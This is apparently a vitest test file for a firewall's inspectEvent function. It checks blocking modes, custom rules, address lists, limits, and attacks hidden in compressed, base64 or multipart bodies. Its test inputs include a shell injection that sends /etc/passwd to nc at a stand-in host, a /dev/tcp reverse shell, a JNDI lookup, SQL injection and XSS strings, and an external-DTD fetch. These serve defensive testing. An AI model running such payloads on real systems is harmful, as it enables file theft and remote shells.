import { brotliCompressSync, deflateRawSync, deflateSync, gzipSync } from 'node:zlib';
import fc from 'fast-check';
import { describe, expect, test } from 'vitest';
import { inspectEvent } from './inspect-event.ts';
import { DEFAULT_FIREWALL_POLICY, type FirewallPolicy } from './policy.ts';

const attack = '1; cat /etc/passwd | nc 203.0.113.9 4444';

function policy(own: Partial<FirewallPolicy>): FirewallPolicy {
  return { ...DEFAULT_FIREWALL_POLICY, ...own };
}

function request(body: unknown, sourceIp = '198.51.100.7'): object {
  return {
    version: '2.0',
    rawPath: '/',
    rawQueryString: '',
    headers: {},
    requestContext: { http: { method: 'POST', path: '/', sourceIp } },
    body: JSON.stringify(body),
  };
}

function queued(...bodies: readonly string[]): object {
  return { Records: bodies.map((body, index) => ({ messageId: `m${index}`, eventSource: 'aws:sqs', body })) };
}

describe('modes', () => {
  test('alert reports, block blocks, off says nothing', () => {
    expect(inspectEvent(request({ a: attack })).kind).toBe('alert');
    expect(inspectEvent(request({ a: attack }), policy({ mode: 'block' })).kind).toBe('block');
    expect(inspectEvent(request({ a: attack }), policy({ mode: 'off' }))).toMatchObject({
      kind: 'allow',
      violations: [],
    });
    expect(inspectEvent(request({ a: 'two shirts; one hat' }), policy({ mode: 'block' })).kind).toBe('allow');
  });

  test('a detector may be weaker than the mode, never stronger', () => {
    const found = inspectEvent(request({ a: attack }), policy({ mode: 'block' })).violations;
    const weak = Object.fromEntries(found.map(({ detector }) => [detector, 'alert' as const]));
    const strong = Object.fromEntries(found.map(({ detector }) => [detector, 'block' as const]));
    expect(inspectEvent(request({ a: attack }), policy({ mode: 'block', detectors: weak })).kind).toBe(
      'alert',
    );
    expect(inspectEvent(request({ a: attack }), policy({ mode: 'alert', detectors: strong })).kind).toBe(
      'alert',
    );
  });

  test('the surest violation comes first', () => {
    const { violations } = inspectEvent(request({ a: attack, b: '<script>alert(1)</script>' }));
    const scores = violations.map(({ score }) => score);
    expect(scores).toEqual([...scores].sort((a, b) => b - a));
  });
});

describe('log lines', () => {
  const lines = (...messages: readonly string[]) => {
    const logs = {
      messageType: 'DATA_MESSAGE',
      owner: '123456789012',
      logGroup: '/aws/lambda/a',
      logStream: 's',
      subscriptionFilters: ['f'],
      logEvents: messages.map((message, id) => ({ id: String(id), timestamp: 1, message })),
    };
    return { awslogs: { data: gzipSync(JSON.stringify(logs)).toString('base64') } };
  };

  test('are told and do not block, whatever they quote', () => {
    const event = lines(
      `GET /?q=${attack} 403`,
      "id=1' UNION SELECT a FROM users -- ",
      'a $'.concat('{jndi:ldap://198.51.100.7/a}'),
    );
    expect(inspectEvent(event, policy({ mode: 'block' })).kind).toBe('alert');
    expect(inspectEvent(queued(attack), policy({ mode: 'block' })).kind).toBe('block');
  });

  test("block by the user's own pattern", () => {
    const rules = [{ id: 'own', over: 'event', pattern: 'INT-\\d{6}' }] as const;
    expect(inspectEvent(lines('a INT-123456'), policy({ mode: 'block', rules })).kind).toBe('block');
  });
});

describe('batches', () => {
  test('only the records that carry the attack are blocked', () => {
    expect(inspectEvent(queued('fine', attack, 'fine too'), policy({ mode: 'block' }))).toMatchObject({
      kind: 'block',
      blockedRecords: [1],
    });
  });

  test('a reason that is the whole event blocks all of it', () => {
    const verdict = inspectEvent(
      queued('fine', attack),
      policy({ mode: 'block', limits: { eventSize: 20 } }),
    );
    expect(verdict.kind).toBe('block');
    expect(verdict.blockedRecords).toBeUndefined();
  });
});

describe('exceptions', () => {
  test.each([
    [{ detector: '*', field: 'body.a' }, true],
    [{ detector: '*', field: 'body.*' }, true],
    [{ detector: '*', field: '*', trigger: 'api-gateway-http' }, true],
    [{ detector: '*', field: 'body.b' }, false],
    [{ detector: '*', field: '*', trigger: 'sqs' }, false],
    [{ detector: 'ldap-injection', field: '*' }, false],
    [{ detector: '*', field: '*', rule: 'no-such-rule' }, false],
  ] as const)('%j: %s', (exception, isExcepted) => {
    const { kind } = inspectEvent(request({ a: attack }), policy({ exceptions: [exception] }));
    expect(kind).toBe(isExcepted ? 'allow' : 'alert');
  });
});

describe("the user's own", () => {
  const rule = { id: 'internal-id', over: 'event', pattern: 'INT-\\d{6}' } as const;

  test('patterns alert, and block as they say', () => {
    const event = request({ ref: 'see INT-123456' });
    expect(inspectEvent(event, policy({ rules: [rule] }))).toMatchObject({
      kind: 'alert',
      violations: [{ detector: 'regex-rule', rule: 'internal-id', field: 'body.ref', match: 'INT-123456' }],
    });
    expect(inspectEvent(event, policy({ mode: 'block', rules: [rule] })).kind).toBe('block');
    expect(inspectEvent(event, policy({ mode: 'block', rules: [{ ...rule, mode: 'alert' }] })).kind).toBe(
      'alert',
    );
    expect(inspectEvent(event, policy({ rules: [{ ...rule, mode: 'off' }] })).kind).toBe('allow');
    expect(inspectEvent(event, policy({ rules: [{ ...rule, field: 'body.other' }] })).kind).toBe('allow');
    expect(inspectEvent(event, policy({ rules: [{ ...rule, over: 'response' }] })).kind).toBe('allow');
  });

  test('two rules over one field are both told', () => {
    const rules = [rule, { ...rule, id: 'second', pattern: 'see' }];
    expect(inspectEvent(request({ ref: 'see INT-123456' }), policy({ rules })).violations).toHaveLength(2);
  });

  test('addresses: deny wins, a list of allowed ones lets nobody else in', () => {
    const addresses = (allow: string[], deny: string[]) =>
      policy({ mode: 'block', addresses: { allow, deny } });
    const from = (address: string, own: FirewallPolicy) => inspectEvent(request({}, address), own).kind;
    expect(from('198.51.100.7', addresses([], ['198.51.100.0/24']))).toBe('block');
    expect(from('198.51.100.7', addresses([], ['192.0.2.0/24']))).toBe('allow');
    expect(from('198.51.100.7', addresses(['192.0.2.0/24'], []))).toBe('block');
    expect(from('198.51.100.7', addresses(['198.51.100.0/24'], ['198.51.100.7']))).toBe('block');
    expect(inspectEvent(queued('x'), addresses(['192.0.2.0/24'], [])).kind).toBe('allow');
  });

  test('a load balancer’s word on the address counts, a caller’s own does not', () => {
    const event = {
      requestContext: {
        elb: { targetGroupArn: 'arn:aws:elasticloadbalancing:eu-west-1:123456789012:targetgroup/x/1' },
      },
      httpMethod: 'GET',
      path: '/',
      headers: { 'x-forwarded-for': '192.0.2.1, 203.0.113.9' },
      body: '',
    };
    const denied = (address: string) =>
      inspectEvent(event, policy({ mode: 'block', addresses: { allow: [], deny: [address] } })).kind;
    expect(denied('203.0.113.9')).toBe('block');
    expect(denied('192.0.2.1')).toBe('allow');
  });
});

describe('limits', () => {
  test('an event that is not read to its end says so, and is blocked when the guard is to fail closed', () => {
    const huge = {
      texts: Array.from({ length: 40 }, (_, index) => `${index}${'lorem ipsum '.repeat(25_000)}`),
    };
    expect(inspectEvent(huge)).toMatchObject({
      kind: 'alert',
      isTruncated: true,
      violations: [{ detector: 'work-limit' }],
    });
    expect(inspectEvent(huge, policy({ mode: 'block' })).kind).toBe('alert');
    expect(inspectEvent(huge, policy({ mode: 'block', onFailure: 'closed' })).kind).toBe('block');
  });

  test('whatever the event, there is a verdict', () => {
    fc.assert(
      fc.property(fc.oneof(fc.jsonValue(), fc.anything()), (event) => {
        expect(['allow', 'alert', 'block']).toContain(inspectEvent(event, policy({ mode: 'block' })).kind);
      }),
    );
  });

  test('the same event gives the same verdict', () => {
    fc.assert(
      fc.property(fc.jsonValue(), (event) => {
        expect(inspectEvent(event)).toEqual(inspectEvent(event));
      }),
    );
  });
});

describe('a polluted prototype', () => {
  function verdictsUnder(key: string, value: unknown): readonly string[] {
    const own = policy({ mode: 'block' });
    Reflect.set(Object.prototype, key, value);
    try {
      return [{ a: attack }, { a: 'two shirts' }].map((body) => inspectEvent(request(body), own).kind);
    } finally {
      Reflect.deleteProperty(Object.prototype, key);
    }
  }

  test.each([
    ['sql-injection', 'off'],
    ['shell-injection', 'off'],
    ['eventSize', 0],
    ['rule', 'other'],
    ['roles', new Set(['path'])],
  ])('%s: %s changes no verdict', (key, value) => {
    expect(verdictsUnder(key, value)).toEqual(['block', 'allow']);
  });
});

describe('text in binary data', () => {
  const sql = "' UNION SELECT username, password FROM users--";
  const noise = Buffer.from(Array.from({ length: 600 }, (_, at) => ((at * 193 + 7) % 256) | 0x80));

  function multipart(content: string, isBase64 = false, head = ''): object {
    const body = `--a\r\nContent-Disposition: form-data; name="q"${head}\r\n\r\n${content}\r\n--a--`;
    return {
      version: '2.0',
      rawPath: '/',
      rawQueryString: '',
      headers: { 'content-type': 'multipart/form-data; boundary=a' },
      requestContext: { http: { method: 'POST', path: '/', sourceIp: '198.51.100.7' } },
      body: isBase64 ? Buffer.from(body, 'latin1').toString('base64') : body,
      isBase64Encoded: isBase64,
    };
  }

  test.each([
    ['a few control characters', multipart(`\x01\x01\x01\x01${sql}`)],
    ['the same in base64', multipart(`\x01\x01\x01\x01${sql}`, true)],
    ['a file', multipart(`${'\x01'.repeat(90)}${sql}`, false, '; filename="a.bin"')],
    ['bytes around', multipart(`${noise.toString('latin1')}${sql}\x01\xff`, true)],
    [
      'a part in base64',
      multipart(
        Buffer.concat([noise, Buffer.from(sql)]).toString('base64'),
        false,
        '\r\nContent-Transfer-Encoding: base64',
      ),
    ],
  ])('of a part: %s', (_name, event) => {
    expect(inspectEvent(event, policy({ mode: 'block' })).kind).toBe('block');
  });

  test.each(["' OR 1=1--", ';cat /etc/passwd', "' or 'a'='a"])('a short attack in a record: %j', (text) => {
    const data = Buffer.concat([noise, Buffer.from(`\x0a\x04${text}\x10\x00`, 'latin1'), noise]);
    const event = { Records: [{ eventSource: 'aws:kinesis', kinesis: { data: data.toString('base64') } }] };
    expect(inspectEvent(event).kind).toBe('alert');
  });

  test('chance is no attack', () => {
    let state = 42;
    const random = Buffer.from(
      Array.from({ length: 200_000 }, () => {
        state = (Math.imul(state, 1_664_525) + 1_013_904_223) >>> 0;
        return state >>> 24;
      }),
    );
    const event = { Records: [{ eventSource: 'aws:kinesis', kinesis: { data: random.toString('base64') } }] };
    expect(inspectEvent(event)).toMatchObject({ kind: 'allow', violations: [] });
    expect(inspectEvent(multipart(random.toString('latin1'), true)).kind).toBe('allow');
  });
});

describe('compressed bodies', () => {
  const dirty = JSON.stringify({ p: '\x7f', q: attack }).replace('\\u007f', '\x7f');

  function compressed(bytes: Uint8Array): object {
    return { ...request(''), body: Buffer.from(bytes).toString('base64'), isBase64Encoded: true };
  }

  test.each([
    ['gzip', gzipSync(dirty)],
    ['deflate', deflateSync(dirty)],
    ['raw deflate', deflateRawSync(dirty)],
    ['brotli', brotliCompressSync(dirty)],
    ['gzip in gzip', gzipSync(gzipSync(dirty))],
    ['gzip of bytes', gzipSync(Buffer.concat([Buffer.alloc(500, 0x90), Buffer.from(attack)]))],
  ])('%s with a control character', (_name, bytes) => {
    expect(inspectEvent(compressed(bytes), policy({ mode: 'block' })).kind).toBe('block');
  });

  test.each([
    ['gzip', gzipSync],
    ['brotli', brotliCompressSync],
  ])('%s: more than is read is said', (_name, compress) => {
    const event = compressed(compress(' '.repeat(4_100_000) + attack));
    expect(inspectEvent(event)).toMatchObject({ kind: 'alert', isTruncated: true });
    expect(inspectEvent(event, policy({ mode: 'block', onFailure: 'closed' })).kind).toBe('block');
  });

  test('harmless ones pass', () => {
    for (const compress of [gzipSync, deflateSync, brotliCompressSync])
      expect(inspectEvent(compressed(compress('{"a":"two shirts","n":1}')))).toMatchObject({ kind: 'allow' });
  });
});

describe('decoys', () => {
  const base64 = (text: string): string => Buffer.from(text).toString('base64');

  test.each([3, 12, 60])('%d harmless base64 words before one that is none', (count) => {
    const words = Array.from({ length: count }, (_, at) => base64(`harmless words, number ${at}, no more`));
    const event = (last: string) => request({ a: [...words, base64(last)].join(' ') });
    expect(inspectEvent(event(`${attack} ${attack}`)).kind).toBe('alert');
    expect(inspectEvent(event('two shirts and one hat for my daughter'))).toMatchObject({ kind: 'allow' });
  });

  test('more layers than are taken off are told, and block when the guard is to fail closed', () => {
    const deep = Array.from({ length: 9 }).reduce<string>((text) => base64(text), attack);
    expect(inspectEvent(request({ a: deep }))).toMatchObject({ kind: 'alert', isTruncated: true });
    const closed = policy({ mode: 'block', onFailure: 'closed' });
    expect(inspectEvent(request({ a: deep }), closed).kind).toBe('block');
  });
});

describe('everyday technical text', () => {
  test.each([
    'cron runs the report at five >> /var/log/report.log 2>&1',
    '<!DOCTYPE note SYSTEM "Note.dtd"><note><to>Ann</to></note>',
  ])('is not blocked: %s', (text) => {
    expect(inspectEvent(request({ a: text }), policy({ mode: 'block' })).kind).not.toBe('block');
  });

  test.each(['x >& /dev/tcp/203.0.113.9/4444 0>&1', '<!DOCTYPE a SYSTEM "http://203.0.113.9/a.dtd">'])(
    'an attack is: %s',
    (text) => expect(inspectEvent(request({ a: text }), policy({ mode: 'block' })).kind).toBe('block'),
  );
});
